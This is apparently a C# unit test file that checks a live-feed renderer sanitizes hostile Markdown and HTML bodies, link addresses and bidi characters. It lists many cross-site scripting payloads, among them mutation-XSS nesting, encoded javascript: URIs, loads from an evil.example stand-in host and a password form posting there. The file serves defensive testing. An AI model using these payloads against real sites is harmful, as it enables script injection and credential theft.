using LiveFeed.Contracts;

namespace LiveFeed.Rendering.Tests;

/// <summary>Nothing that a writer, a wire or a stolen key sends runs in a reader's browser or breaks out of its entry.</summary>
public sealed class HostileBodies
{
    public static TheoryData<string> Markdown =>
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](%6Aavascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/a)",
        "[x](/relative)",
        "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
        "[x](https://ok.example/\"onmouseover=alert(1))",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](mailto:a@b.example)",
        "![\"onerror=alert(1) x=\"](https://ok.example/a.png)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "![x][1]\n\n[1]: data:image/png;base64,AAAA",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "text <b onclick=alert(1)>bold</b>",
        "```\"><script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```",
        "`<script>alert(1)</script>`",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "</div></article><script>alert(1)</script>",
        "# <script>x</script>",
        "https://ok.example/<script>alert(1)</script>",
        "a\u202Etxt.exe and &#8238;b &#x2066;c",
    ];

    public static TheoryData<string> Html =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`onerror=alert(1)>",
        "<img src='https://ok.example/a.png' onload='alert(1)'>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"javascript:alert(1) 1x\" src=https://ok.example/a.png>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097'>x</a>",
        "<a href=\"vbscript:x\">x</a><a href=\"blob:https://a/b\">y</a><a href=\"intent://x\">z</a>",
        "<a href=https://ok.example target=_blank ping=https://evil.example id=x name=body>x</a>",
        "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<plaintext><script>alert(1)</script>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=1?><?php x ?><b>y</b>",
        "<style>@import 'https://evil.example/a.css'; * { display: none }</style>",
        "<p style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</p>",
        "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content=0;url=https://evil.example>",
        "<base href=https://evil.example/><a href=a>x</a>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<object data=x></object><embed src=x><applet code=x></applet><video src=x onerror=alert(1)></video><audio src=x></audio>",
        "<p id=entry-1 class=\"entry-breaking twitter\" data-x=1 onclick=alert(1) tabindex=1 contenteditable autofocus>x</p>",
        "<img name=cookie id=body src=https://ok.example/a.png usemap=#x><map name=x><area href=javascript:alert(1)></map>",
        "<div slot=x is=x part=x><slot></slot><live-feed feed=x></live-feed></div>",
        "<body onload=alert(1)><p>x</p></body>",
        "<html manifest=x><head><script>alert(1)</script></head><body background=javascript:alert(1)>x</body></html>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "</div></div></article></main><script>alert(1)</script><main><article>",
        "<p><a href=https://a.example><table><a href=javascript:alert(1)>x</table></a>",
        "<table><tr><td><form><script>alert(1)</script></table><b>x",
        "<bdo dir=rtl>x</bdo><marquee onstart=alert(1)>x</marquee><blink>x</blink>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details><dialog open>z</dialog>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<a href=\"https://ok.example/&quot;&gt;&lt;script&gt;\" title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
        "<p lang=\"en&quot; onclick=alert(1)\" dir=\"rtl&quot;\">x</p>",
        "<td align=\"left;x\" rowspan=99999 colspan=x>x</td>",
        "<p>\u202Ex &#x202E;y &#8297;z</p><img alt=\"&#x202E;x\" src=https://ok.example/a.png>",
        "<x-y><z:w onclick=alert(1)>x</z:w></x-y>",
        "<a href=\"https://ok.example\"onclick=\"alert(1)\"x='>'>x</a>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    ];

    [Theory]
    [MemberData(nameof(Markdown))]
    public void Markdown_is_shown_without_harm(string body) =>
        Shown.AssertHarmless(Shown.Article(Shown.Entry with { Body = body }));

    [Theory]
    [MemberData(nameof(Html))]
    [MemberData(nameof(Markdown))]
    public void Html_is_shown_without_harm(string body) =>
        Shown.AssertHarmless(Shown.Article(Shown.Entry with { Body = body, BodyFormat = BodyFormat.Html }));

    [Theory]
    [MemberData(nameof(Html))]
    public void Html_in_markdown_shows_as_text(string body) =>
        Shown.AssertHarmless(Shown.Article(Shown.Entry with { Body = body }));

    [Theory]
    [MemberData(nameof(Html))]
    [MemberData(nameof(Markdown))]
    public void Every_other_field_is_plain_text(string text)
    {
        var article = Shown.Article(Shown.Entry with
        {
            Headline = text,
            Byline = text,
            Source = new(text, "https://ok.example"),
            Image = new() { Url = "https://ok.example/a.png", Alt = text, Caption = text, Credit = text },
            Correction = new(text, Shown.Entry.PublishedAt),
            Tags = [text],
        });

        Shown.AssertHarmless(article);
        Assert.Equal("IMG", Assert.Single(article.QuerySelectorAll("figure > :first-child")).TagName);
        Assert.Empty(article.QuerySelector(".entry-headline")?.Children ?? article.QuerySelectorAll("none"));
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("data:text/html,x")]
    [InlineData("/relative")]
    [InlineData("https:")]
    [InlineData("\"><script>")]
    public void Addresses_of_other_schemes_are_left_out(string address)
    {
        var article = Shown.Article(Shown.Entry with
        {
            Link = address,
            Source = new("Somebody", address),
            Image = new() { Url = address, Caption = "x" },
        });

        Shown.AssertHarmless(article);
        Assert.Equal("entry-permalink", Assert.Single(article.QuerySelectorAll("[href], [src]")).ClassName);
    }

    [Fact]
    public void Bidi_controls_are_taken_away_and_what_scripts_need_is_kept()
    {
        var article = Shown.Article(Shown.Entry with { Headline = "\u202Egpj.exe\u202C \u2067x\u2069 👨\u200D👩 می\u200Cخواهم \u200F 🏴󠁧󠁢󠁷󠁬󠁳󠁿\uFEFF\u2060" });

        Assert.Equal("gpj.exe x 👨\u200D👩 می\u200Cخواهم \u200F 🏴󠁧󠁢󠁷󠁬󠁳󠁿", article.QuerySelector("h2")!.TextContent);
    }
}
